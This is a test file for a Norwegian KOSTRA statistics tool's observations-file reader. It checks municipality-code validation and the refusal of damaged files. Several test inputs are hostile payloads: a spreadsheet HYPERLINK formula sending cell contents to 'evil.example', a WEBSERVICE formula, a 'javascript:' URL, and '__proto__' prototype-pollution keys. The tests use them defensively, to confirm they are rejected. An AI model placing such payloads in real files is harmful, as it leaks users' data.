/**
 * The `kostra fetch` file read back through its schema: typed observations and provenance
 * with only text and numbers, refused with one line naming the file and the field when
 * anything else is in it. Data: SYNTHETIC (tests/support/groups-dataset.ts).
 */
import { hasXmlForbidden } from "../../src/kostra/safe-text";
import { readDataFile } from "../../src/sources/file";
import { writeObservationsFile } from "../../src/sources/observations-file";
import { syntheticDataset } from "../support/groups-dataset";
import { kostraErrorOf } from "../support/kostra-error";

const enc = (s: string) => new TextEncoder().encode(s);
// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any;

/** A valid file as `kostra fetch` writes it, parsed, for a test to change. */
function validFile(): Json {
  const text = writeObservationsFile(syntheticDataset(), {
    createdAt: new Date("2026-01-01T00:00:00Z"),
    request: { sectors: ["plan-miljo-kultur"], years: [2021], network: "asss", municipalities: ["ha"], average: "simple" },
    missing: [{ indicator: "bibliotek", years: [2020], reason: { nb: "SSB svarte ikke.", en: "SSB did not answer." } }],
    kostraGroups: [{ year: 2021, date: "2021-01-01", source: "SSB Klass 131→112, 2021-01-01", url: "https://data.ssb.no/api/klass/v1/x", fetchedAt: "2026-01-01T00:00:00.000Z", groups: { ha: "ekg07" } }],
  });
  return JSON.parse(text);
}

const read = (json: Json | string) => readDataFile(enc(typeof json === "string" ? json : JSON.stringify(json)), "kostra.json");

const errorOf = (json: Json | string) => kostraErrorOf(() => read(json));

describe("observations file: valid files", () => {
  it("reads back what was written, with the KOSTRA groups; the free-form request is not passed on", () => {
    const r = read(validFile());
    expect(r.dataset).toEqual(syntheticDataset());
    expect(r.kostraGroups).toEqual([{ year: 2021, date: "2021-01-01", source: "SSB Klass 131→112, 2021-01-01", url: "https://data.ssb.no/api/klass/v1/x", fetchedAt: "2026-01-01T00:00:00.000Z", groups: { ha: "ekg07" } }]);
    expect(JSON.stringify(r)).not.toMatch(/"request"|"sectors"/);
  });

  it("is the same JSON as the plain serialisation, with one line per observation and the rest indented", () => {
    const extra = { createdAt: new Date("2026-01-01T00:00:00Z"), request: { sectors: ["plan-miljo-kultur"], note: "line 1\nline 2 «» \u2028" }, missing: [{ indicator: "bibliotek", years: [2020], reason: { nb: "SSB svarte ikke.", en: "SSB did not answer." } }] };
    const data = syntheticDataset();
    const text = writeObservationsFile(data, extra);
    const parsed = JSON.parse(text);
    expect(Object.keys(parsed)).toEqual(["format", "version", "createdAt", "request", "missing", "provenance", "observations"]);
    expect(parsed).toMatchObject({ createdAt: "2026-01-01T00:00:00.000Z", request: extra.request, missing: extra.missing, provenance: data.provenance, observations: data.observations });
    const lines = text.split("\n");
    data.observations.forEach((o, i) => expect(lines).toContain(`  ${JSON.stringify(o)}${i < data.observations.length - 1 ? "," : ""}`));
    expect(lines[1]).toMatch(/^ "format": "/);
    expect(text.endsWith("}\n")).toBe(true);
    // An empty dataset still makes a file that reads back.
    expect(JSON.parse(writeObservationsFile({ observations: [], provenance: [] }, extra)).observations).toEqual([]);
  });

  it("makes text XML-safe and keeps formula-like text as plain strings", () => {
    const f = validFile();
    f.provenance[0] = { source: "ssb", table: "12362", query: '=HYPERLINK("http://x/?"&A2)\u0000', fetchedAt: "2026-01-01T00:00:00Z", updated: "2025-06-15T06:00:00Z", notes: ["@SUM(1)\uFFFE"] };
    f.observations[0].status = "=1+1\uD800";
    const r = read(f);
    expect(r.dataset.provenance[0]).toEqual({ source: "ssb", table: "12362", query: '=HYPERLINK("http://x/?"&A2)\uFFFD', fetchedAt: "2026-01-01T00:00:00Z", updated: "2025-06-15T06:00:00Z", notes: ["@SUM(1)\uFFFD"] });
    expect(r.dataset.observations[0].status).toBe("=1+1\uFFFD");
  });
});

describe("observations file: codes of merged, renumbered and re-established municipalities and of aggregates", () => {
  it.each([
    ["Bærum under each of its codes", "baerum", [[2019, "0219"], [2020, "3024"], [2023, "3024"], [2024, "3201"]]],
    ["Haram before Ålesund and after it was re-established", "haram", [[2019, "1534"], [2024, "1580"]]],
    ["Ålesund while Haram was part of it", "alesund", [[2021, "1507"]]],
    ["KOSTRA group 7 in both groupings", "ekg07", [[2017, "EKG07"], [2022, "EKG07"]]],
    ["Landet and Landet uten Oslo", "eakuo", [[2015, "EAKUO"], [2024, "EAKUO"]]],
  ] as [string, string, [number, string][]][])("reads %s", (_, municipality, years) => {
    const f = validFile();
    // The valid file has figures for 2021 only (and none for Bærum, Haram or Ålesund); these are the added ones.
    const ADDED = 0.25;
    for (const [year, code] of years) f.observations.push({ indicator: "kunstformidling", municipality, year, code, value: ADDED, provenance: 0 });
    const r = read(f);
    expect(r.dataset.observations.filter((o) => o.value === ADDED).map((o) => [o.municipality, o.year, o.code])).toEqual(years.map(([y, c]) => [municipality, y, c]));
  });
});

describe("observations file: hostile or damaged files are refused with one line naming file and field", () => {
  const HYPERLINK = { formula: 'HYPERLINK("http://evil.example/?"&A2,"klikk")' };
  const WEBSERVICE = { formula: 'WEBSERVICE("http://x/?"&A2)' };
  const cases: [string, (f: Json) => void, RegExp, RegExp][] = [
    ["provenance query as a formula object", (f) => (f.provenance[0].query = HYPERLINK), /^kostra\.json: «provenance\[0\]\.query» forventet tekst, fikk Object\.$/, /"provenance\[0\]\.query" expected text/],
    ["provenance table as a formula object", (f) => (f.provenance[0].table = WEBSERVICE), /«provenance\[0\]\.table» forventet tekst/, /expected text/],
    ["provenance updated as a formula object", (f) => (f.provenance[0].updated = HYPERLINK), /«provenance\[0\]\.updated» forventet tekst/, /expected text/],
    ["provenance fetchedAt as a formula object", (f) => (f.provenance[0].fetchedAt = WEBSERVICE), /«provenance\[0\]\.fetchedAt» forventet tekst/, /expected text/],
    ["provenance source that is not known", (f) => (f.provenance[0].source = HYPERLINK), /«provenance\[0\]\.source» ugyldig verdi/, /invalid value/],
    ["a provenance note as a formula object", (f) => (f.provenance[0].notes = [HYPERLINK]), /«provenance\[0\]\.notes\[0\]» forventet tekst/, /expected text/],
    ["provenance: null", (f) => (f.provenance = null), /«provenance» forventet en liste, fikk null/, /"provenance" expected a list, got null/],
    ["a provenance entry that is null", (f) => (f.provenance = [null]), /«provenance\[0\]» forventet et objekt, fikk null/, /expected an object/],
    ["updated that is not a date", (f) => (f.provenance[0].updated = "i går"), /«provenance\[0\]\.updated» er ikke en dato/, /is not a date/],
    ["an observation that is null", (f) => (f.observations[3] = null), /«observations\[3\]» forventet et objekt, fikk null/, /expected an object/],
    ["a status that is a number", (f) => (f.observations[1].status = 5), /«observations\[1\]\.status» forventet tekst, fikk 5/, /expected text, got 5/],
    ["a status that is an object", (f) => (f.observations[1].status = HYPERLINK), /«observations\[1\]\.status» forventet tekst/, /expected text/],
    ["a value that is text", (f) => (f.observations[1].value = "=1+1"), /«observations\[1\]\.value» forventet et tall, fikk "=1\+1"/, /expected a number, got "=1\+1"/],
    ["a year that is not an integer", (f) => (f.observations[1].year = 2021.5), /«observations\[1\]\.year» er ikke et heltall/, /is not an integer/],
    ["an unknown indicator", (f) => (f.observations[1].indicator = "bibliotekk"), /«observations\[1\]\.indicator»: ukjent indikator «bibliotekk»/, /unknown indicator "bibliotekk"/],
    ["an unknown municipality", (f) => (f.observations[1].municipality = "atlantis"), /«observations\[1\]\.municipality»: ukjent kommune «atlantis»/, /unknown municipality "atlantis"/],
    ["__proto__ as an indicator", (f) => (f.observations[1].indicator = "__proto__"), /«observations\[1\]\.indicator» er et reservert navn/, /is a reserved name/],
    ["constructor as a municipality", (f) => (f.observations[1].municipality = "constructor"), /«observations\[1\]\.municipality» er et reservert navn/, /is a reserved name/],
    ["an empty code", (f) => (f.observations[1].code = ""), /«observations\[1\]\.code» er tom/, /is empty/],
    ["a code with a forbidden character", (f) => (f.observations[1].code = "1119\uFFFF"), /«observations\[1\]\.code» inneholder tegn som ikke er tillatt/, /holds characters that are not allowed/],
    ["a missing field", (f) => delete f.observations[1].code, /«observations\[1\]\.code» mangler/, /"observations\[1\]\.code" is missing/],
    ["a code not valid in the year", (f) => (f.observations[0].code = "0219"), /^kostra\.json: «observations\[0\]\.code»: koden «0219» gjelder ikke Hå i 2021 \(Hå hadde 1119\)\.$/, /^kostra\.json: "observations\[0\]\.code": code "0219" is not Hå's in 2021 \(Hå had 1119\)\.$/],
    ["another municipality's code (Oslo's 0301 for Hå)", (f) => (f.observations[0].code = "0301"), /«observations\[0\]\.code»: koden «0301» gjelder ikke Hå i 2021 \(Hå hadde 1119\)/, /code "0301" is not Hå's in 2021 \(Hå had 1119\)/],
    ["a group's code for a municipality", (f) => (f.observations[0].code = "EKG07"), /«observations\[0\]\.code»: koden «EKG07» gjelder ikke Hå i 2021/, /code "EKG07" is not Hå's in 2021/],
    ["a municipality's code for a group", (f) => (f.observations.find((o: Json) => o.municipality === "ekg07").code = "1119"), /koden «1119» gjelder ikke KOSTRA-gruppe 7 i 2021 \(KOSTRA-gruppe 7 hadde EKG07\)/, /code "1119" is not KOSTRA group 7's in 2021 \(KOSTRA group 7 had EKG07\)/],
    ["Landet uten Oslo's code for Landet", (f) => (f.observations.find((o: Json) => o.municipality === "eak").code = "EAKUO"), /koden «EAKUO» gjelder ikke Landet i 2021 \(Landet hadde EAK\)/, /code "EAKUO" is not Norway's in 2021 \(Norway had EAK\)/],
    [
      "Ålesund's code for Haram while it was part of Ålesund",
      (f) => f.observations.push({ indicator: "kunstformidling", municipality: "haram", year: 2021, code: "1507", value: 1, provenance: 0 }),
      /koden «1507» gjelder ikke Haram i 2021 \(Haram hadde ingen egen kode i 2021; den var en del av Ålesund\)/,
      /code "1507" is not Haram's in 2021 \(Haram had no code of its own in 2021; it was part of Ålesund\)/,
    ],
    [
      "a merged-away municipality's old code after the merger (Hof 0714 in 2021)",
      (f) => f.observations.push({ indicator: "kunstformidling", municipality: "hof", year: 2021, code: "0714", value: 1, provenance: 0 }),
      /koden «0714» gjelder ikke Hof i 2021 \(den er gyldig til og med 2017; Hof hadde ingen egen kode i 2021; den var blitt en del av Holmestrand\)/,
      /code "0714" is not Hof's in 2021 \(it is valid up to 2017; Hof had no code of its own in 2021; it had become part of Holmestrand\)/,
    ],
    ["a group that did not exist in the year (KOSTRA group 17 in 2017)", (f) => f.observations.push({ indicator: "kunstformidling", municipality: "ekg17", year: 2017, code: "EKG17", value: 1, provenance: 0 }), /koden «EKG17» gjelder ikke KOSTRA-gruppe 17 i 2017 \(den er gyldig fra 2020; KOSTRA-gruppe 17 hadde ingen egen kode i 2017; den fantes ikke ennå\)/, /code "EKG17" is not KOSTRA group 17's in 2017 \(it is valid from 2020; KOSTRA group 17 had no code of its own in 2017; it did not exist yet\)/],
    ["two groupings for one year", (f) => f.kostraGroups.push({ year: 2021, source: "SSB Klass", groups: { time: "ekg07" } }), /^kostra\.json: «kostraGroups\[1\]\.year»: 2021 står også i «kostraGroups\[0\]»; en fil har én KOSTRA-gruppering per år\.$/, /^kostra\.json: "kostraGroups\[1\]\.year": 2021 is also in "kostraGroups\[0\]"; a file has one KOSTRA grouping per year\.$/],
    ["a reference to no provenance entry", (f) => (f.observations[1].provenance = 7), /«observations\[1\]\.provenance»: viser til kilde nr\. 7, som ikke finnes/, /refers to source 7, which does not exist/],
    ["an unknown version", (f) => (f.version = 2), /«version» ugyldig verdi 2; forventet 1/, /invalid value 2; expected 1/],
    ["a KOSTRA group year as a formula object", (f) => (f.kostraGroups[0].year = HYPERLINK), /«kostraGroups\[0\]\.year» forventet et tall/, /expected a number/],
    ["a KOSTRA group url as a formula object", (f) => (f.kostraGroups[0].url = HYPERLINK), /«kostraGroups\[0\]\.url» forventet tekst/, /expected text/],
    ["a KOSTRA group url that is not a web address", (f) => (f.kostraGroups[0].url = "javascript:alert(1)"), /«kostraGroups\[0\]\.url» er ikke en nettadresse/, /is not a web address/],
    ["a KOSTRA group that is not one", (f) => (f.kostraGroups[0].groups.ha = "=1"), /«kostraGroups\[0\]\.groups\.ha» er ikke en KOSTRA-gruppe/, /is not a KOSTRA group/],
    ["a KOSTRA group for an unknown municipality", (f) => (f.kostraGroups[0].groups.nope = "ekg07"), /«kostraGroups\[0\]\.groups»: ukjent kommune «nope»/, /unknown municipality "nope"/],
    ["missing parts that are not a list", (f) => (f.missing = HYPERLINK), /«missing» forventet en liste/, /expected a list/],
    ["a missing part's reason as a formula object", (f) => (f.missing[0].reason.nb = HYPERLINK), /«missing\[0\]\.reason\.nb» forventet tekst/, /expected text/],
  ];

  it.each(cases)("refuses %s", (_, change, nb, en) => {
    const f = validFile();
    change(f);
    const e = errorOf(f);
    expect(e.code).toBe("bad-input");
    expect(e.messageIn("nb")).toMatch(/^kostra\.json: /);
    expect(e.messageIn("nb")).toMatch(nb);
    expect(e.messageIn("en")).toMatch(en);
    for (const lang of ["nb", "en"] as const) expect(e.messageIn(lang)).not.toMatch(/[\r\n]/);
  });

  it("refuses __proto__ as a KOSTRA group key", () => {
    const text = JSON.stringify(validFile()).replace('"groups":{"ha":"ekg07"}', '"groups":{"__proto__":"ekg07","ha":"ekg07"}');
    expect(errorOf(text).messageIn("nb")).toMatch(/«kostraGroups\[0\]\.groups» har et reservert navn som nøkkel/);
  });

  it("refuses Infinity (1e309) naming the observation", () => {
    const text = JSON.stringify(validFile()).replace(/"value":120,/, '"value":1e309,');
    const e = errorOf(text);
    expect(e.messageIn("nb")).toBe("kostra.json: «observations[0].value» er ikke et endelig tall.");
    expect(e.messageIn("en")).toBe('kostra.json: "observations[0].value" is not a finite number.');
  });

  it("refuses a duplicate observation, the same or with another value, naming both and the codes", () => {
    const same = validFile();
    same.observations.push({ ...same.observations[0] });
    const n = same.observations.length - 1;
    expect(errorOf(same).messageIn("nb")).toBe(`kostra.json: «observations[${n}]» gjelder samme kommune, indikator og år som «observations[0]» (1119 Hå, kunstformidling, 2021).`);
    const conflict = validFile();
    conflict.observations.push({ ...conflict.observations[0], value: 121 });
    const e = errorOf(conflict);
    expect(e.messageIn("nb")).toBe(`kostra.json: «observations[${n}]» gjelder samme kommune, indikator og år som «observations[0]» (1119 Hå, kunstformidling, 2021), med en annen verdi (121, ikke 120).`);
    expect(e.messageIn("en")).toBe(`kostra.json: "observations[${n}]" is for the same municipality, indicator and year as "observations[0]" (1119 Hå, kunstformidling, 2021), with another value (121, not 120).`);
  });

  it("never returns a text with a character XML forbids, whatever string fields hold", () => {
    const nasty = ["\u0000", "\u0008", "\u000B", "\uFFFE", "\uFFFF", "\uD800", "\uDFFF", "x\u001Fy"];
    for (const c of nasty) {
      const f = validFile();
      f.provenance[0].query = `q${c}`;
      f.provenance[0].notes = [`n${c}`];
      f.observations[0].status = `s${c}`;
      f.kostraGroups[0].source = `k${c}`;
      const r = read(f);
      const strings: string[] = [];
      JSON.stringify(r, (_k, v) => (typeof v === "string" && strings.push(v), v));
      expect(strings.filter(hasXmlForbidden)).toEqual([]);
    }
  });
});
